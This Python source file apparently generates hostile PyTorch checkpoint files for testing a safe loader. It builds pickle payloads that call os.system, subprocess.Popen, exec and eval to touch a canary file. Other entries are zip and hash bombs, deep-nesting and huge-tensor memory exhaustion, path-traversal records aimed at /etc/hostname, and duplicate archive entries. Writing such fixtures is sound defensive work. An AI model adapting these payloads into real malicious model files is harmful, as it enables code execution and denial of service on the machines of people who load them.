"""Torch files that want to run code, or to eat the machine. A name says what is tried."""

import io
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # of torch's format before it took to zip files
HUGE = 10**11
BOMB_BYTES = 256 << 20


def text(value: str) -> bytes:
    """The instruction that pushes a text."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    data = pickle.encode_long(value)
    return b"\x8a" + bytes([len(data)]) + data


def name(path: str) -> bytes:
    module, _, attribute = path.rpartition(".")
    return b"c" + f"{module}\n{attribute}\n".encode()


def call(path: str, *arguments: bytes) -> bytes:
    """The instructions that call what is at an import path."""
    return name(path) + b"(" + b"".join(arguments) + b"tR"


def pickled(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def mapping(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"u"


def storage(count: int, key: str = "0") -> bytes:
    """A storage of so many float32."""
    return b"(" + text("storage") + name("torch.FloatStorage") + text(key) + text("cpu") + number(count) + b"tQ"


def tensor(shape: tuple[int, ...], strides: tuple[int, ...], count: int = 1, offset: int = 0) -> bytes:
    """A tensor on a storage of so many float32."""
    sizes, steps = (b"(" + b"".join(map(number, values)) + b"t" for values in (shape, strides))
    ordered = call("collections.OrderedDict")
    return call("torch._utils._rebuild_tensor_v2", storage(count), number(offset), sizes, steps, b"\x89", ordered)


def zipped(
    content: bytes, records: dict[str, bytes] | None = None, compressed: str = "", root: str = "archive"
) -> bytes:
    """A torch file of today's format around the instructions of one pickle."""
    all_records = {"data.pkl": content, "byteorder": sys.byteorder.encode(), "data/0": bytes(4), "version": b"3\n"}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for key, data in (all_records | (records or {})).items():
            info = zipfile.ZipInfo(f"{root}/{key}")
            info.compress_type = zipfile.ZIP_DEFLATED if key == compressed else zipfile.ZIP_STORED
            with archive.open(info, "w") as record:
                record.write(data)
                for _ in range(BOMB_BYTES >> 20 if key == compressed else 0):
                    record.write(bytes(1 << 20))
    return file.getvalue()


def old_format(content: bytes, keys: list[str], storages: bytes = b"") -> bytes:
    """A torch file of the format before."""
    heads = (MAGIC, PROTOCOL, {"protocol_version": PROTOCOL, "little_endian": True, "type_sizes": {}})
    return b"".join(pickle.dumps(head, 2) for head in heads) + content + pickle.dumps(keys, 2) + storages


def tarred(content: bytes) -> bytes:
    """A torch file of the first format: a tar archive."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for key, data in (("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", content)):
            info = tarfile.TarInfo(key)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def twice(content: bytes) -> bytes:
    """Two records of one name: two readers may disagree on which counts."""
    file = io.BytesIO(zipped(pickled(mapping(a=tensor((1,), (1,))))))
    with zipfile.ZipFile(file, "a") as archive:
        archive.NameToInfo.clear()
        archive.writestr("archive/data.pkl", content)
    return file.getvalue()


def script_archive() -> bytes:
    """What torch.jit.save writes, so far as a reader looks to tell it."""
    return zipped(pickled(b"}"), {"constants.pkl": pickled(b")"), "code/__torch__.py": b"class Evil(Module):\n"})


def hash_bomb() -> bytes:
    """A key made of tuples in tuples, each twice the one before: its hash takes 2**60 steps."""
    body = b")" + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
    return b"}" + body + b"K\x01s"


def executions(canary: Path) -> dict[str, bytes]:
    """Instructions that would make a file, each in a way of its own."""
    touch, python = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    evil = pickled(call("os.system", text(touch)))
    words = b"](" + text("touch") + text(str(canary)) + b"e"
    imported = call("importlib.import_module", text("os"))
    return {
        "os.system": call("os.system", text(touch)),
        "posix.system": call("posix.system", text(touch)),
        "eval": call("__builtin__.eval", text(python)),
        "exec": call("builtins.exec", text(python)),
        "compile": call("builtins.exec", call("builtins.compile", text(python), text(""), text("exec"))),
        "subprocess.Popen": call("subprocess.Popen", words),
        "subprocess by NEWOBJ": name("subprocess.Popen") + b"(" + words + b"t\x81",
        "getattr chain": call("builtins.getattr", imported, text("system")) + b"(" + text(touch) + b"tR",
        "runpy": call("runpy._run_code", call("builtins.compile", text(python), text(""), text("exec")), b"}"),
        "nested pickle": call("_pickle.loads", call("_codecs.encode", text(evil.decode("latin1")), text("latin1"))),
        "numpy.load": call("numpy.load", text(str(canary))),
        "numpy object array": call("numpy.core.multiarray._reconstruct", name("numpy.ndarray"), b"(K\x00t", text("b")),
        "torch.load": call("torch.serialization.load", text(str(canary))),
        "torch.hub.load": call("torch.hub.load", text("https://example.com/x"), text("x")),
        "torch inductor": call("torch._inductor.codecache.AsyncCompile"),
        "joblib": call("joblib.numpy_pickle.NumpyArrayWrapper"),
        "dill": call("dill._dill._create_code", text(python)),
        "cloudpickle": call("cloudpickle.cloudpickle._make_function", text(python)),
        "functools.partial": call("functools.partial", name("os.system"), text(touch)) + b")R",
        "operator.methodcaller": call("operator.methodcaller", text("system"), text(touch)),
        "build with __setstate__": name("torch.nn.modules.module.Module") + b")\x81" + mapping(a=text(touch)) + b"b",
        "__build__ of a dict": b"}" + mapping(__class__=name("os._wrap_close")) + b"b",
        "protocol 4 name": text("os") + text("system") + b"\x93(" + text(touch) + b"tR",
        "INST": b"(" + text(touch) + b"ios\nsystem\n",
        "OBJ": b"(" + name("os.system") + text(touch) + b"o",
        "extension code": b"\x82\x01(" + text(touch) + b"tR",
        "persistent module": b"(" + text("module") + name("os.system") + text(touch) + text("x") + b"tQ",
        "persistent text": text(touch) + b"Q",
        "allowed function by alias": call("torch._utils.importlib.import_module", text("os")),
        "rebuild calls what it is given": call(
            "torch._tensor._rebuild_from_type_v2",
            name("os.system"),
            name("torch.Tensor"),
            b"(" + text(touch) + b"t",
            b"}",
        ),
    }


def exhaustions() -> dict[str, bytes]:
    """Instructions that run nothing and would take memory or time without end."""
    wide = tensor((HUGE,), (0,))
    rebuilt = "torch._utils._rebuild_"
    return {
        "repeated number": mapping(a=wide),
        "repeated number copied": call(
            f"{rebuilt}device_tensor_from_cpu_tensor", wide, name("torch.float64"), text("cpu"), b"\x89"
        ),
        "set of a repeated number": call("builtins.set", wide),
        "map of a repeated number": call("collections.OrderedDict", tensor((HUGE, 2), (0, 0))),
        "bytearray": call("builtins.bytearray", number(HUGE)),
        "tensor class": call("torch.FloatTensor", number(HUGE)),
        "tuple hash": hash_bomb(),
        "tuple hash in a set": call("builtins.set", b"]" + hash_bomb()[1:-3] + b"a"),
        "quadratic codec": call("_codecs.encode", text("x" * 200_000), text("idna")),
        "itself inside": b"}q\x00" + text("model") + b"h\x00s",
        "deep nests": b"}" + (text("model") + b"}") * 20_000 + b"s" * 20_000,
        "deep lists": mapping(detkit=b"]" * 20_000 + b"a" * 19_999, state_dict=b"}"),
        "storage larger than its record": mapping(a=tensor((HUGE,), (1,), count=HUGE)),
        "view behind the end": mapping(a=tensor((4,), (1,), count=1, offset=10**6)),
        "negative strides": mapping(a=tensor((2,), (-1,), count=1)),
        "meta tensor": mapping(
            a=call(
                f"{rebuilt}meta_tensor_no_storage",
                name("torch.float32"),
                b"(" + number(HUGE) + b"t",
                b"(K\x01t",
                b"\x89",
            )
        ),
        "sparse tensor": mapping(
            a=call(
                f"{rebuilt}sparse_tensor",
                call("torch.serialization._get_layout", text("torch.sparse_coo")),
                b"(" + tensor((1, 1), (1, 1)) + tensor((1,), (1,)) + b"(" + number(HUGE) + b"t\x89t",
            )
        ),
        "names that are no text": b"}" + tensor((1,), (1,)) + tensor((1,), (1,)) + b"s",
        "names that cannot be printed": mapping(**{"\ud800\x1b[2J": b"K\x01"}),
        "a number": number(10**600),
        "nothing": b"N",
    }


def torch_files(canary: Path) -> dict[str, Callable[[], bytes]]:
    """Whole files by kind; each is made when it is asked for."""
    evil = executions(canary)["os.system"]
    fine = pickled(mapping(a=tensor((1,), (1,))))
    bodies = {f"code: {key}": body for key, body in executions(canary).items()}
    bodies |= {f"greed: {key}": body for key, body in exhaustions().items()}
    files: dict[str, Callable[[], Any]] = {key: lambda body=body: zipped(pickled(body)) for key, body in bodies.items()}
    return files | {
        "code: hidden among weights": lambda: zipped(pickled(mapping(a=tensor((1,), (1,)), b=evil))),
        "code: old format": lambda: old_format(pickled(evil), []),
        "code: old format, its head": lambda: pickled(evil) + old_format(fine, ["0"]),
        "code: old format, its keys": lambda: old_format(pickled(b"}"), [])[:-4] + pickled(evil),
        "code: first format (tar)": lambda: tarred(pickled(evil)),
        "code: plain pickle": lambda: pickled(evil),
        "code: protocol 0": lambda: b"cos\nsystem\n(S'touch %s'\ntR." % str(canary).encode(),
        "code: TorchScript": script_archive,
        "code: two data.pkl": lambda: twice(pickled(evil)),
        "code: data.pkl in another folder": lambda: zipped(fine, {"../archive/data.pkl": pickled(evil)}),
        "path: records that leave the archive": lambda: zipped(fine, {"../../../escaped": b"x", "data/../../0": b"x"}),
        "path: storage that leaves the archive": lambda: zipped(
            pickled(mapping(a=tensor((1,), (1,)).replace(text("0"), text("../../../../etc/hostname"))))
        ),
        "greed: compressed storage": lambda: zipped(
            pickled(mapping(a=tensor((BOMB_BYTES // 4,), (1,), BOMB_BYTES // 4))), None, "data/0"
        ),
        "greed: compressed data.pkl": lambda: zipped(pickled(b"".join(b"N0" for _ in range(1000))), None, "data.pkl"),
        "greed: compressed version": lambda: zipped(fine, None, "version"),
        "greed: old format, endless storage": lambda: old_format(pickled(mapping(a=tensor((1,), (1,), HUGE))), ["0"]),
        "greed: old format, endless storage with its size": lambda: old_format(
            pickled(mapping(a=tensor((1,), (1,), HUGE))), ["0"], struct.pack("<q", HUGE)
        ),
        "odd: byteorder": lambda: zipped(fine, {"byteorder": b"\xff" * 9}),
        "odd: version": lambda: zipped(fine, {"version": b"9" * 99}),
        "odd: no data.pkl": lambda: zipped(fine).replace(b"data.pkl", b"dota.pkl"),
        "odd: empty": lambda: b"",
        "odd: zip's first bytes alone": lambda: b"PK\x03\x04",
        "odd: text without end": lambda: pickled(b"X\xff\xff\xff\x7f"),
    }
